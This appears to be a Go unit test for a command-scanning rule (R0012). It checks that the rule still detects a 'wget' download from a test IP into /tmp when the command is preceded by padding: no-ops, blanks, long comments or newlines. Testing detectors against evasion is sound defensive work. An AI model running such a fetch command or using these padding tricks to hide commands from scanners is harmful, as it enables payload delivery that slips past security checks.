package rules_test

import (
	"slices"
	"strings"
	"testing"
)

// TestPaddedFetch hides a fetch behind what costs an attacker nothing.
func TestPaddedFetch(t *testing.T) {
	t.Parallel()
	c := commandRules(t)
	const fetch = "wget http://192.0.2.1/x -O /tmp/x"
	for name, pad := range map[string]string{
		"no-ops":          strings.Repeat(":;", 1024),
		"2 KB of blanks":  strings.Repeat(" ", 2048),
		"a comment":       "# " + strings.Repeat("x", 200<<10) + "\n",
		"blanks":          strings.Repeat(" \t", 100<<10),
		"100,000 no-ops":  strings.Repeat("true;", 100000),
		"newlines":        strings.Repeat("\n", 200<<10),
		"several of them": strings.Repeat(": # x\n  true && \\\n", 20000),
	} {
		if got := c.hits(pad + fetch); !slices.Contains(got, "R0012") {
			t.Errorf("%s before %q: hits %v, want R0012 among them", name, fetch, got)
		}
	}
}
